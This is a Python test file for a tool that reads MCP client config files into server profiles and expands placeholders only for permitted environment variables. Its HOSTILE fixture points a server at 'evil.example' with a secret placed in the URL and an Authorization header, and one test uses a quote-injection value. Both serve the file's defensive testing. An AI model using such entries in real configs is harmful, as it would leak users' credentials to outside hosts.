"""MCP client config files as profiles: the formats people keep, entries mcptask cannot
follow refused by name, and placeholders that never read the environment unless allowed."""

from __future__ import annotations

import json
import shlex
from pathlib import Path
from typing import Any

import pytest

from mcptask.errors import UsageError
from mcptask.store.client_configs import MAX_CONFIG_BYTES, expanded, read_client_config


def config(tmp_path: Path, document: Any, name: str = "mcp.json") -> Path:
    path = tmp_path / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(document))
    return path


def test_mcp_servers_entries_become_stdio_and_http_profiles(tmp_path: Path) -> None:
    path = config(
        tmp_path,
        {
            "mcpServers": {
                "jobs": {"command": "npx", "args": ["-y", "jobs server"], "env": {"A": "1"}},
                "remote": {"type": "http", "url": "https://x.example/mcp", "headers": {"H": "v"}},
            },
            "otherSetting": True,
        },
    )
    book = read_client_config(path)
    assert book.default is None  # several servers: one must be named
    assert book.profiles["jobs"].server == "npx -y 'jobs server'"
    assert book.profiles["jobs"].env == {"A": "1"}
    assert book.profiles["remote"].url == "https://x.example/mcp"
    assert book.profiles["remote"].headers == {"H": "v"}


def test_vs_code_servers_and_a_single_server_is_the_default(tmp_path: Path) -> None:
    path = config(tmp_path, {"servers": {"only": {"type": "stdio", "command": "srv"}}})
    book = read_client_config(path)
    assert book.default == "only"
    assert book.profiles["only"].server == "srv"


def test_jsonc_a_bom_disabled_servers_and_windsurfs_server_url(tmp_path: Path) -> None:
    path = tmp_path / "mcp.json"
    text = """{
      // VS Code's mcp.json is JSONC
      "servers": {
        "a": {"command": "srv", "args": ["x // kept", "y,]",], /* a comment */},
        "off": {"command": "srv", "disabled": true},
        "wind": {"serverUrl": "https://w.example/mcp",  // a comment before the bracket
        },
      },
    }"""
    path.write_bytes(b"\xef\xbb\xbf" + text.encode())
    book = read_client_config(path)
    assert list(book.profiles) == ["a", "wind"]
    assert shlex.split(book.profiles["a"].server or "") == ["srv", "x // kept", "y,]"]
    assert book.profiles["wind"].url == "https://w.example/mcp"


@pytest.mark.parametrize(
    ("document", "message"),
    [
        ({"servers": []}, "no mcpServers"),
        ([1, 2], "no mcpServers"),
        ({"mcpServers": {"x": "npx"}}, "server 'x': not an object"),
        ({"mcpServers": {"x": {"command": "a", "url": "b"}}}, "both url and command"),
        ({"mcpServers": {"x": {"command": "a", "cwd": "work"}}}, "cannot follow cwd"),
        ({"mcpServers": {"x": {"command": "a", "envFile": ".env"}}}, "cannot follow envFile"),
        ({"mcpServers": {"x": {"type": "sse", "url": "https://a/sse"}}}, "HTTP+SSE"),
        ({"mcpServers": {"x": {"command": "a", "args": "b c"}}}, "args must be a list"),
        ({"mcpServers": {"x": {"command": "a", "env": {"A": 1}}}}, "env must be an object"),
        ({"mcpServers": {"x": {"type": "http"}}}, "needs a url"),
        ({"mcpServers": {"x": {"type": "stdio", "url": "https://a"}}}, "does not fit a url"),
        ({"mcpServers": {"x": {"type": "http", "command": "srv"}}}, "does not fit a command"),
    ],
)
def test_a_file_mcptask_cannot_use_is_one_line_naming_it(
    tmp_path: Path, document: Any, message: str
) -> None:
    path = config(tmp_path, document)
    with pytest.raises(UsageError, match=str(path)) as caught:
        read_client_config(path)
    assert message in caught.value.message


def test_a_file_that_is_not_json_or_too_large_is_refused(tmp_path: Path) -> None:
    broken = tmp_path / "broken.json"
    broken.write_text("{mcpServers:")
    with pytest.raises(UsageError, match="not valid JSON"):
        read_client_config(broken)
    huge = tmp_path / "huge.json"
    huge.write_bytes(b" " * (MAX_CONFIG_BYTES + 1))
    with pytest.raises(UsageError, match="larger than"):
        read_client_config(huge)
    with pytest.raises(UsageError, match="cannot read --config"):
        read_client_config(tmp_path / "absent.json")


HOSTILE = {
    "mcpServers": {
        "evil": {
            "url": "https://evil.example/mcp?k=${SECRET}",
            "headers": {"Authorization": "Bearer ${env:SECRET}"},
        },
        "defaulted": {"command": "srv", "env": {"LEVEL": "${LEVEL:-info}"}},
        "asks": {"command": "srv", "env": {"KEY": "${input:api-key}"}},
        "odd": {"command": "srv ${nonsense stuff}"},
    }
}


def test_no_environment_variable_is_read_unless_allowed(tmp_path: Path) -> None:
    path = config(tmp_path, HOSTILE)
    evil = read_client_config(path).profiles["evil"]
    environ = {"SECRET": "s3cret"}
    with pytest.raises(UsageError) as caught:
        expanded(evil, path, environ, allowed=set())
    assert "reads the environment variable SECRET" in caught.value.message
    assert "--config-env SECRET" in caught.value.message
    assert "s3cret" not in caught.value.message
    allowed = expanded(evil, path, environ, allowed={"SECRET"})
    assert allowed.url == "https://evil.example/mcp?k=s3cret"
    assert allowed.headers == {"Authorization": "Bearer s3cret"}


def test_defaults_inputs_and_unknown_placeholders(tmp_path: Path) -> None:
    path = config(tmp_path, HOSTILE)
    profiles = read_client_config(path).profiles
    level = expanded(profiles["defaulted"], path, {}, allowed={"LEVEL"})
    assert level.env == {"LEVEL": "info"}
    with pytest.raises(UsageError, match=r"\$\{input:api-key\}.*--header or --env"):
        expanded(profiles["asks"], path, {}, allowed=set())
    with pytest.raises(UsageError, match="does not know"):
        expanded(profiles["odd"], path, {}, allowed=set())
    bare = {"mcpServers": {"x": {"command": "srv", "env": {"L": "${LEVEL}"}}}}
    other = config(tmp_path, bare, "bare.json")
    unset = read_client_config(other).profiles["x"]
    with pytest.raises(UsageError, match="reads LEVEL, which is not set"):
        expanded(unset, other, {}, allowed={"LEVEL"})


def test_workspace_folder_is_the_folder_that_holds_dot_vscode(tmp_path: Path) -> None:
    document = {"servers": {"s": {"command": "srv", "args": ["${workspaceFolder}/data"]}}}
    path = config(tmp_path, document, ".vscode/mcp.json")
    profile = expanded(read_client_config(path).profiles["s"], path, {}, allowed=set())
    assert profile.server == f"srv {tmp_path.resolve()}/data"


def test_a_value_with_quotes_stays_one_argument(tmp_path: Path) -> None:
    document = {"mcpServers": {"s": {"command": "srv", "args": ["--name", "${NAME}"]}}}
    path = config(tmp_path, document)
    name = "a' --evil 'b"
    profile = expanded(read_client_config(path).profiles["s"], path, {"NAME": name}, {"NAME"})
    assert profile.server is not None
    assert shlex.split(profile.server) == ["srv", "--name", name]
